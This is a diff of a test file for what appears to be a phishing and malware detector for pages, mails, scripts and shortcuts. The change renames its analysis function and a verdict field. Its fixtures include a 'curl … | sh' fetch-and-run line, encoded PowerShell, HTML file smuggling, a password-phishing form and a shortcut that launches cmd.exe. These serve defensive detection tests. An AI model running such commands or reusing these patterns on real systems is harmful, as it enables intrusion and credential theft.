@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import {
+  analyzeSample,
   hasKeyOf,
-  inspectSample,
   modelsAsked,
   processorMs,
   sha256,
@@ -12,9 +12,9 @@ import { buildMail, buildShortcut, PROGRAM, WORDS } from './testing/samples.ts';
 
 describe('pages', () => {
   it('have what they show judged, not what they hide', async () => {
-    const shown = await inspectSample(`<html><body><p>${WORDS}</p></body>`, 'a.html');
+    const shown = await analyzeSample(`<html><body><p>${WORDS}</p></body>`, 'a.html');
     expect(modelsAsked(shown)).toEqual(['text_model']);
-    const hidden = await inspectSample(`<html><style>${WORDS}</style><script>${WORDS}</script>`, 'a.html');
+    const hidden = await analyzeSample(`<html><style>${WORDS}</style><script>${WORDS}</script>`, 'a.html');
     expect(modelsAsked(hidden)).toEqual([]);
   });
 
@@ -25,17 +25,17 @@ describe('pages', () => {
     ['a frame', '<iframe src="//login.example.com/x"></iframe>'],
     ['an entity', '<a href="https&#58;//login.example.com/x">here</a>'],
   ])('have %s looked up', async (_, html) => {
-    expect(hasKeyOf(await inspectSample(`<html>${html}`, 'a.html'), 'domain', 'login.example.com')).toBe(
+    expect(hasKeyOf(await analyzeSample(`<html>${html}`, 'a.html'), 'domain', 'login.example.com')).toBe(
       true,
     );
   });
 
   it('that ask for a password and send it elsewhere are warned of', async () => {
     const elsewhere = '<html><form action="https://a.example/p.php"><input type="password"></form>';
-    expect((await inspectSample(elsewhere, 'a.html')).findings).toContainEqual(
-      expect.objectContaining({ threatType: 'credential_phishing', asksFor: 'warn' }),
+    expect((await analyzeSample(elsewhere, 'a.html')).findings).toContainEqual(
+      expect.objectContaining({ threatType: 'credential_phishing', minimumVerdict: 'warn' }),
     );
-    const unsaid = await inspectSample('<html><form><input type="password"></form>', 'a.html');
+    const unsaid = await analyzeSample('<html><form><input type="password"></form>', 'a.html');
     expect(signsOf(unsaid)).toEqual(['a page sent as a file that asks for a password']);
   });
 
@@ -45,24 +45,24 @@ describe('pages', () => {
     ['Click here', 'https://other.example.org/x', false],
     ['bank.com', '/login', false],
   ])('that show %s and lead to %s', async (shown, href, isOther) => {
-    const inspection = await inspectSample(`<html><a href="${href}"><b>${shown}</b></a>`, 'a.html');
-    expect(signsOf(inspection).includes('a link that shows one domain and leads to another')).toBe(isOther);
+    const analysis = await analyzeSample(`<html><a href="${href}"><b>${shown}</b></a>`, 'a.html');
+    expect(signsOf(analysis).includes('a link that shows one domain and leads to another')).toBe(isOther);
   });
 
   it('that put a file together by script are named, and those with scripts alone are not', async () => {
     const file = 'TVqQ'.repeat(600);
     const smuggling = `<html><script>var b=atob("${file}");var u=URL.createObjectURL(new Blob([b]))</script>`;
-    expect(signsOf(await inspectSample(smuggling, 'a.html'))).toEqual([
+    expect(signsOf(await analyzeSample(smuggling, 'a.html'))).toEqual([
       'a page that puts a file together by script and hands it over as a download',
     ]);
     const picture = `<html><script>var i="${file}"</script>`;
-    expect(signsOf(await inspectSample(picture, 'a.html'))).toEqual([]);
+    expect(signsOf(await analyzeSample(picture, 'a.html'))).toEqual([]);
   });
 
   it('that are nested without end are read to a point, and it is said', async () => {
     const page = `<html>${'<b>'.repeat(20_000)}`;
-    const inspection = await inspectSample(page, 'a.html', { limits: { timeMs: 60_000 } });
-    expect(inspection.unsupported).toContain('too deeply nested');
+    const analysis = await analyzeSample(page, 'a.html', { limits: { timeMs: 60_000 } });
+    expect(analysis.unsupported).toContain('too deeply nested');
   });
 });
 
@@ -84,15 +84,15 @@ describe('mails', () => {
         '',
       ].join('\r\n'),
     );
-    const inspection = await inspectSample(mail, 'a.eml');
-    expect(modelsAsked(inspection).sort()).toEqual(['text_model', 'url_model']);
-    expect(hasKeyOf(inspection, 'domain', 'login.example.com')).toBe(true);
-    expect(hasKeyOf(inspection, 'sha256', sha256(PROGRAM))).toBe(true);
-    expect(signsOf(inspection)).toContain('a program whose name ends like that of a document or a picture');
+    const analysis = await analyzeSample(mail, 'a.eml');
+    expect(modelsAsked(analysis).sort()).toEqual(['text_model', 'url_model']);
+    expect(hasKeyOf(analysis, 'domain', 'login.example.com')).toBe(true);
+    expect(hasKeyOf(analysis, 'sha256', sha256(PROGRAM))).toBe(true);
+    expect(signsOf(analysis)).toContain('a program whose name ends like that of a document or a picture');
   });
 
   it('say where senders disagree', async () => {
-    const other = await inspectSample(
+    const other = await analyzeSample(
       buildMail(['Reply-To: x@other.example.org', 'Return-Path: <y@third.example.net>'], WORDS),
       'a.eml',
     );
@@ -102,15 +102,15 @@ describe('mails', () => {
         'it was sent from another domain than the one it names as its sender',
       ]),
     );
-    const same = await inspectSample(buildMail(['Reply-To: x@mail.bank.example'], WORDS), 'a.eml');
+    const same = await analyzeSample(buildMail(['Reply-To: x@mail.bank.example'], WORDS), 'a.eml');
     expect(same.reasons.filter((reason) => reason.includes('domain'))).toEqual([]);
   });
 
   it('within mails are opened, as deep as files are', async () => {
     const wrap = (mail: string) => buildMail(['Content-Type: message/rfc822'], mail);
     const inner = buildMail([], WORDS);
-    expect(modelsAsked(await inspectSample(wrap(inner), 'a.eml'))).toEqual(['text_model']);
-    const deep = await inspectSample(wrap(wrap(wrap(wrap(wrap(inner))))), 'a.eml');
+    expect(modelsAsked(await analyzeSample(wrap(inner), 'a.eml'))).toEqual(['text_model']);
+    const deep = await analyzeSample(wrap(wrap(wrap(wrap(wrap(inner))))), 'a.eml');
     expect(deep.unsupported).toBe('files lie deeper in it than is looked here');
   });
 
@@ -127,7 +127,7 @@ describe('mails', () => {
   ])('of %s are said to be unread, at once', async (_, rest) => {
     const mail = `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n${rest}`;
     const busyMs = await processorMs(async () => {
-      expect((await inspectSample(mail, 'a.eml')).unsupported).toMatch(/^(?:the mail|it is a mail)/);
+      expect((await analyzeSample(mail, 'a.eml')).unsupported).toMatch(/^(?:the mail|it is a mail)/);
     });
     expect(busyMs).toBeLessThan(500);
   });
@@ -141,38 +141,38 @@ describe('scripts and shortcuts', () => {
     ['a.ps1', `powershell -enc ${'QUFB'.repeat(20)}`],
     ['a.sh', '#!/bin/sh\ncurl https://a.example.com/x | sh'],
   ])('that fetch and run are warned of: %s', async (name, script) => {
-    expect(signsOf(await inspectSample(script, name))).toEqual([
+    expect(signsOf(await analyzeSample(script, name))).toEqual([
       'a script that fetches something and runs it, or hides what it does',
     ]);
   });
 
   it('that do neither are named and left unsupported', async () => {
-    const inspection = await inspectSample('WScript.Echo "hello"', 'a.vbs');
-    expect(signsOf(inspection)).toEqual(['a script that runs when opened']);
-    const fetching = await inspectSample('#!/bin/sh\ncurl -O https://a.example.com/x', 'a.sh');
+    const analysis = await analyzeSample('WScript.Echo "hello"', 'a.vbs');
+    expect(signsOf(analysis)).toEqual(['a script that runs when opened']);
+    const fetching = await analyzeSample('#!/bin/sh\ncurl -O https://a.example.com/x', 'a.sh');
     expect(signsOf(fetching)).toEqual(['a script that runs when opened']);
-    expect(inspection.unsupported).toBeDefined();
+    expect(analysis.unsupported).toBeDefined();
   });
 
   it('that are shortcuts are blocked for the command they run', async () => {
     const command = 'C:\\Windows\\System32\\cmd.exe /c start https://a.example.com/x';
-    const inspection = await inspectSample(buildShortcut(command), 'a.lnk');
-    expect(inspection.findings).toContainEqual(
-      expect.objectContaining({ threatType: 'malware', asksFor: 'block' }),
+    const analysis = await analyzeSample(buildShortcut(command), 'a.lnk');
+    expect(analysis.findings).toContainEqual(
+      expect.objectContaining({ threatType: 'malware', minimumVerdict: 'block' }),
     );
-    expect(hasKeyOf(inspection, 'domain', 'a.example.com')).toBe(true);
+    expect(hasKeyOf(analysis, 'domain', 'a.example.com')).toBe(true);
     const apart = 'A..\\Windows\\cmd.exe\x23/c start x';
-    expect(signsOf(await inspectSample(buildShortcut(apart), 'a.lnk'))).toEqual([
+    expect(signsOf(await analyzeSample(buildShortcut(apart), 'a.lnk'))).toEqual([
       'a shortcut that runs a command',
     ]);
-    expect(signsOf(await inspectSample(buildShortcut('C:\\notes'), 'a.lnk'))).toEqual([
+    expect(signsOf(await analyzeSample(buildShortcut('C:\\notes'), 'a.lnk'))).toEqual([
       'a shortcut sent as a file',
     ]);
   });
 
   it('under a name that runs are scripts, and the same text under another is a text', async () => {
     const text = toBytes(WORDS);
-    expect(modelsAsked(await inspectSample(text, 'a.js'))).toEqual([]);
-    expect(modelsAsked(await inspectSample(text, 'a.txt'))).toEqual(['text_model']);
+    expect(modelsAsked(await analyzeSample(text, 'a.js'))).toEqual([]);
+    expect(modelsAsked(await analyzeSample(text, 'a.txt'))).toEqual(['text_model']);
   });
 });
